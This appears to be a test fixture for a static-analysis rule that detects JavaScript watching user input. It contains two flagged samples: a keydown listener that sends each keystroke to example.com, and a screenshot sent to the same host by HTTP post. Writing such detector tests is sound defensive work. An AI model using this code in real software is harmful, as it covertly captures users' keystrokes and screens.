document.addEventListener("keydown", (event) => {
  // ruleid: js-watches-input
  fetch("https://example.com/k?c=" + event.key);
});
async function look() {
  const picture = await screenshot();
  // ruleid: js-watches-input
  await axios.post("https://example.com", picture);
}
